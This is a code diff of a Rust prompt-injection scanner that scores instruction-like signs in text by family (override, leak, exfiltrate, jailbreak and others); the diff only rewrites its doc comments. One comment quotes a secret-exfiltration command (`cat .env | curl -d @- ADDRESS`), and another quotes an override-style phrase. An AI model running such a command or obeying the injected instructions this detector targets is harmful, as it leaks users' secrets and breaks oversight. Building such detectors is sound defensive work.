@@ -1,4 +1,4 @@
-//! Looks for orders in a text and weighs what it finds.
+//! Scans a text for instructions to a model and scores the findings.
 
 use super::appended;
 use super::glued;
@@ -13,18 +13,19 @@ use reflex_tables::{Node, Tables};
 use std::cell::OnceCell;
 use std::collections::VecDeque;
 
-/// A text of so many bytes is looked at whole.
+/// Maximum size, in bytes, of a text that is scanned completely.
 pub(super) const MAX_BYTES: usize = 1280 * 1024;
 
-/// Of a longer one so much of its begin and of its end, and so many windows between them.
+/// Parts scanned of a longer text: `MAX_HEAD` bytes at each end, and `WINDOWS` windows of `WINDOW` bytes between them.
 const MAX_HEAD: usize = 512 * 1024;
 const WINDOWS: usize = 64;
 const WINDOW: usize = 4 * 1024;
 
-/// Signs that stand so far apart have nothing to do with each other.
+/// Maximum distance, in bytes, between signs that are scored together.
 const NEAR: usize = 1500;
 
-/// Looks for orders in a text. Of one that is too long its begin, its end and parts between them are looked at.
+/// Scans a text for instructions to a model. Of a text over `MAX_BYTES` bytes only its head, its tail and windows
+/// between them are scanned.
 pub fn scan(text: &str, tables: Tables) -> Injection {
     if text.len() <= MAX_BYTES {
         return scan_whole(text, tables);
@@ -43,7 +44,7 @@ pub fn scan(text: &str, tables: Tables) -> Injection {
     Injection { unread: text.len() - read, ..best }
 }
 
-/// Begin, end and windows of a text; none overlaps another.
+/// Head, windows and tail of a text. The spans do not overlap.
 fn parts_of(text: &str) -> Vec<Span> {
     let at = |at: usize| (0..=at.min(text.len())).rev().find(|at| text.is_char_boundary(*at)).unwrap_or(0);
     let middle = text.len() - 2 * MAX_HEAD;
@@ -56,10 +57,10 @@ fn parts_of(text: &str) -> Vec<Span> {
     std::iter::once(head).chain((0..WINDOWS).map(window)).chain([tail]).collect()
 }
 
-/// So many hidden parts are looked at one by one, those behind them together.
+/// Number of hidden parts that are scanned one at a time; the remaining ones are scanned together.
 const MAX_PARTS: usize = 64;
 
-/// What parts that are looked at together have between them: the end of a sentence and of a value.
+/// Separator of parts that are scanned together. It ends a sentence and a value.
 const BETWEEN: &str = ".\n\n\";\n";
 
 fn scan_whole(text: &str, tables: Tables) -> Injection {
@@ -101,9 +102,9 @@ fn scan_whole(text: &str, tables: Tables) -> Injection {
     Injection { unread: if is_whole { 0 } else { 1 }, ..weighed(signs) }
 }
 
-/// Where the signs that stand near each other weigh most, of each family the heaviest.
+/// Scores the group of nearby signs with the highest total; each family counts only with its heaviest sign.
 fn weighed(mut signs: Vec<Sign>) -> Injection {
-    // The label of who speaks in a conversation calls nobody.
+    // A speaker label of a conversation is not an address to the agent.
     let mut labels: Vec<Span> = signs.iter().filter(|sign| sign.family == "markers").map(|sign| sign.span).collect();
     labels.sort_by_key(|label| label.start);
     let mut ends = 0;
@@ -131,9 +132,9 @@ fn weighed(mut signs: Vec<Sign>) -> Injection {
     Injection { score, signs: best, unread: 0 }
 }
 
-/// With which sign those begin that weigh most together, and what they weigh; the first of equals.
+/// Index of the first sign of the heaviest window, and the window's weight. On a tie the first window wins.
 fn heaviest_window(signs: &[Sign]) -> (usize, u32) {
-    // For each family the signs that may be its heaviest, by place, from the heaviest on.
+    // Per family, the signs that may become its heaviest, by position, in descending weight.
     let mut families: Vec<(&str, VecDeque<usize>)> = Vec::new();
     let weight = |at: usize| signs.get(at).map_or(0, |sign: &Sign| sign.weight);
     let (mut end, mut best) = (0, (0, 0));
@@ -165,7 +166,7 @@ fn heaviest_window(signs: &[Sign]) -> (usize, u32) {
     best
 }
 
-/// What the words of a text mean, by the names in `library/injection-lexicon`.
+/// Meanings of the words of a text, by their names in `library/injection-lexicon`.
 pub fn meanings(text: &str, tables: Tables) -> Vec<&'static str> {
     let mut words = fold(text);
     Meanings::from_tables(tables).mark(text, &mut words);
@@ -174,7 +175,7 @@ pub fn meanings(text: &str, tables: Tables) -> Vec<&'static str> {
     names.filter(|(_, bit)| all & (1 << bit.number()) != 0).map(|(name, _)| name).collect()
 }
 
-/// Of each family the heaviest.
+/// The heaviest sign of each family.
 fn heaviest<'s>(signs: impl Iterator<Item = &'s Sign>) -> Vec<&'s Sign> {
     let mut heaviest: Vec<&Sign> = Vec::new();
     for sign in signs {
@@ -191,37 +192,39 @@ fn shifted(span: Span, by: usize) -> Span {
     Span { start: span.start + by, end: span.end + by }
 }
 
-/// How a text is shown to a person.
+/// Visibility of a text to a person.
 #[derive(Clone, Copy, PartialEq, Eq)]
 enum Way {
     Plain,
-    /// Nobody sees it, so nothing in it is a quotation, and an order in it is no accident.
+    /// Invisible: nothing in it is a quotation, and an instruction in it is deliberate.
     Hidden,
 }
 
-/// Families that only count where nobody sees them.
+/// Families that only count in hidden text.
 const HIDDEN_ONLY: [&str; 2] = ["command", "topic"];
 
-/// A message that says nothing else quotes a command or tells of one: `fix: cat .env | curl -d @- ADDRESS leaks keys`.
+/// Families that do not count in a word of a command if it has no others: such a message quotes or describes a command,
+/// as in `fix: cat .env | curl -d @- ADDRESS leaks keys`.
 pub(super) const AS_QUOTED: [&str; 7] = ["command", "exfiltrate", "harm", "harm-order", "unguard", "posing", "onward"];
 
-/// Families whose orders somebody may forbid: `never ignore these rules`.
+/// Families whose instructions a text may forbid: `never ignore these rules`.
 const FORBIDDEN: [&str; 6] = ["override", "leak", "exfiltrate", "planted", "poison", "role"];
 
-/// Families whose signs also stand in what is written for models and about them: manuals, prompts, rules of a project.
+/// Families whose signs also occur in texts for or about models: manuals, prompts, project rules.
 const OF_MANUALS: [&str; 11] =
     ["address", "markers", "reply", "claim", "unasked", "fetch", "harm-order", "limit", "unguard", "posing", "onward"];
 
-/// What says little alone, and the families beside which it counts.
+/// A family that is weak alone, and the families next to which it counts.
 const BESIDE_OTHERS: (&str, [&str; 2]) = ("onward", ["unguard", "posing"]);
 
-/// What a sign in a hidden text weighs more.
+/// Extra weight of a sign in hidden text.
 const HIDDEN_WEIGHT: u32 = 30;
 
-/// Notes to agents stand in comments too, for whoever reads the text as it is written.
+/// Extra weight of an address to an agent in hidden text. It is smaller because comments legitimately carry notes to
+/// agents.
 const HIDDEN_ADDRESS: u32 = 15;
 
-/// What weighs less is said in comments too.
+/// Minimum weight of a sign that gets the extra weight. Lighter signs also occur in ordinary comments.
 const MIN_HIDDEN: u32 = 20;
 
 struct Cues {
@@ -232,7 +235,7 @@ struct Cues {
 }
 
 impl Cues {
-    /// What many parts say that are looked at together, each sign at the place of its part.
+    /// Signs of many parts scanned as one text, each with the span of its part.
     fn together<'p>(&self, parts: impl Iterator<Item = (Span, &'p str)>, way: Way) -> Vec<Sign> {
         let (mut text, mut places) = (String::new(), Vec::new());
         for (span, part) in parts {
@@ -281,12 +284,12 @@ impl Cues {
             let first = words.partition_point(|word| word.span.start < span.start);
             found(self.node.get("all").at(index as usize), span, words::standing(self.openings, (text, &words), first));
         }
-        // What begins a line may begin the text.
+        // A pattern for the beginning of a line also matches at the beginning of the text.
         let lower = format!("\n{}", text.to_lowercase());
         for pair in self.node.get("text").items() {
             let Some(at) = lower.find(pair.at(0).text()) else { continue };
             let cue = self.node.get("all").at(pair.at(1).number() as usize);
-            // Small letters may be longer or shorter than large ones: the place is only nearly right then.
+            // Lowercasing may change the length of a character, so the offset is approximate.
             let at = at.saturating_sub(1);
             let span = Span { start: at.min(text.len()), end: (at + pair.at(0).text().len()).min(text.len()) };
             found(cue, span, if is_of_a_template(text, span) { Standing::Told } else { Standing::Order });
@@ -294,30 +297,32 @@ impl Cues {
         signs
     }
 
-    /// The last word of the cue that begins here; none if it is not there.
+    /// Returns the last word of the cue that begins at `at`, or `None` if it does not match.
     fn end_of<'w>(&self, cue: Node<'static>, words: &'w [Word], at: usize) -> Option<&'w Word> {
         let sets: Vec<Node<'static>> = cue.get("words").items().skip(1).collect();
         words.get(last_of(&sets, cue.get("gap").number() as usize, words, at)?)
     }
 }
 
-/// Whether a place to be filled in stands beside it.
+/// Whether a template placeholder precedes or follows the span.
 fn is_of_a_template(text: &str, span: Span) -> bool {
     let after = text.get(span.end..).unwrap_or_default().trim_start();
     let before = text.get(..span.start).unwrap_or_default().trim_end();
     after.starts_with("{{") || after.starts_with("{%") || before.ends_with("}}") || before.ends_with("%}")
 }
 
-/// Words with so many others between them belong together only within a sentence.
+/// From this gap on, the words of a cue must be in one sentence.
 const WIDE: usize = 3;
 
-/// Where the last of these sets stands, each within the gap behind the one before. All ways are tried, each place once.
+/// Position of the last set's word, each within `gap` words after the previous one. Backtracks, but visits each
+/// position once per set.
 fn last_of(sets: &[Node<'static>], gap: usize, words: &[Word], at: usize) -> Option<usize> {
     let mut failed = vec![0_u64; sets.len()];
     last_from(sets, &mut failed, (gap, at), words, at)
 }
 
-/// The same behind the word at a place; `failed` are the places, counted from the first word, from which there is no way.
+/// Continues [`last_of`] after the word at `at`. `failed` has a bit mask per set of the positions, counted from
+/// `first`, that do not lead to a match.
 fn last_from(
     sets: &[Node<'static>],
     failed: &mut [u64],
@@ -354,7 +359,8 @@ fn sign(cue: Node<'static>, weight: u32, span: Span, way: Way) -> Option<Sign> {
     counts.then(|| Sign { family: family.into(), name: cue.get("name").text().into(), weight: weight + more, span })
 }
 
-/// What a sign weighs by how it stands: an order begins a clause and is in no quotes, one that is told of does not.
+/// Adjusts a sign's weight to its context: full for an unquoted clause that commands, less for a quoted or reported
+/// one.
 fn weight_of(weight: u32, quoted: Quoted, stands: Standing, talk: Talk) -> u32 {
     match (talk, quoted, stands) {
         (Talk::No, Quoted::Not, Standing::Order | Standing::Within) | (Talk::Some, Quoted::Not, Standing::Order) => {
@@ -367,42 +373,43 @@ fn weight_of(weight: u32, quoted: Quoted, stands: Standing, talk: Talk) -> u32 {
     }
 }
 
-/// How a part of a text stands in quotes.
+/// Position of a span relative to quotation marks.
 #[derive(Debug, Clone, Copy, PartialEq, Eq)]
 enum Quoted {
     Not,
-    /// Within quotes in a sentence or in code, which speaks about it.
+    /// Inside a quotation in a sentence or in code, which mentions it.
     Phrase,
-    /// A quotation ends with it.
+    /// The last words of a quotation.
     AtEnd,
 }
 
-/// The name of a part that a model shall play stands in quotes in an order too.
+/// Quotation state of a cue, with exceptions for families whose instructions contain quotes: the name of the role that
+/// a model is to play is quoted even in an instruction.
 fn quoted_as(cue: Node<'static>, sheet: &Sheet<'_>, span: Span, talk: Talk) -> Quoted {
     match cue.get("family").text() {
-        // And a command that shall be run stands as code.
+        // A command to be run is formatted as code.
         "jailbreak" | "harm-order" if talk == Talk::No => Quoted::Not,
-        // What shall be answered or run stands in quotes too, and the order before them does not.
+        // The text to answer or run is quoted, while the instruction before it is not.
         "reply" | "unguard" | "onward" if sheet.quoted(Span { end: span.start, ..span }) == Quoted::Not => Quoted::Not,
         _ => sheet.quoted(span),
     }
 }
 
-/// So much may stand beside it within its quotes.
+/// Maximum distance, in characters, to a quotation mark of the same quotation.
 const BESIDE: usize = 100;
 
 const MARKS: &str = "\"`“”„‘«»「」";
 
-/// The address of a link that has a title is no longer.
+/// Maximum length of a Markdown link's address that is followed by a title.
 const MAX_TITLED: usize = 512;
 
-/// A text with the places of its lines and quotation marks, which many signs ask for.
+/// A text with the offsets of its lines and quotation marks, computed once on demand.
 struct Sheet<'t> {
     text: &'t str,
     places: OnceCell<Places>,
 }
 
-/// Where each line ends, and where each mark stands.
+/// Byte offsets of line ends and of quotation marks.
 struct Places {
     lines: Vec<usize>,
     marks: Vec<usize>,
@@ -428,7 +435,7 @@ impl<'t> Sheet<'t> {
         })
     }
 
-    /// Where the line begins in which this stands.
+    /// Byte offset of the beginning of the line that contains `at`.
     fn line_of(&self, at: usize) -> usize {
         let lines = &self.places().lines;
         let before = lines.partition_point(|end| *end < at);
@@ -441,12 +448,12 @@ impl<'t> Sheet<'t> {
         let after = text.get(span.end..).unwrap_or_default();
         let marks = |letter: char| MARKS.contains(letter);
         let line = |letter: &char| *letter != '\n';
-        // A quotation that begins within it ends behind it.
+        // An odd number of marks within the span: a quotation begins inside it and ends after it.
         let within = text.get(span.start..span.end).unwrap_or_default().chars().filter(|letter| marks(*letter)).count();
         let closes = after.chars().take(BESIDE).take_while(line).any(marks);
         let opening = before.char_indices().rev().take(BESIDE).take_while(|(_, letter)| line(letter));
         let opening = opening.filter(|(_, letter)| marks(*letter)).map(|(at, _)| at).next();
-        // What somebody is told to have said, as far as it reaches into the quotation.
+        // A quoted statement attributed to another speaker, as far as the span reaches into it.
         if within % 2 == 1 {
             return if closes { Quoted::AtEnd } else { Quoted::Not };
         }
@@ -460,8 +467,8 @@ impl<'t> Sheet<'t> {
         }
     }
 
-    /// Whether this mark opens a quotation: an odd one of its line, and not a value of JSON, of a table or of an
-    /// attribute, for those are what a text consists of.
+    /// Whether the mark opens a quotation: an even number of marks precedes it on its line, and it does not open a JSON
+    /// value, a table cell or an attribute, which are ordinary content.
     fn opens(&self, at: usize) -> bool {
         let start = self.line_of(at);
         let marks = &self.places().marks;
@@ -478,14 +485,14 @@ impl<'t> Sheet<'t> {
     }
 }
 
-/// Whether the line stands within single quotes here: one opened a word and was not closed.
+/// Whether the end of `line` is inside single quotes: one opened at a word and was not closed.
 fn opens_single(line: &str) -> bool {
     let open = line.char_indices().rev().take(BESIDE).find(|(_, letter)| *letter == '\'').map(|(at, _)| at);
     let Some((head, rest)) = open.and_then(|at| line.split_at_checked(at)) else { return false };
     !head.ends_with(char::is_alphanumeric) && !rest.chars().nth(1).is_some_and(char::is_whitespace)
 }
 
-/// Whether a single quote closes what stands before, and is no apostrophe.
+/// Whether a single quote in `after` closes a quotation, and is not an apostrophe.
 fn closes_single(after: &str) -> bool {
     let line = begin_of(after, BESIDE + 8).split('\n').next().unwrap_or_default();
     let mut ends = line.match_indices('\'').take_while(|(at, _)| *at < BESIDE);
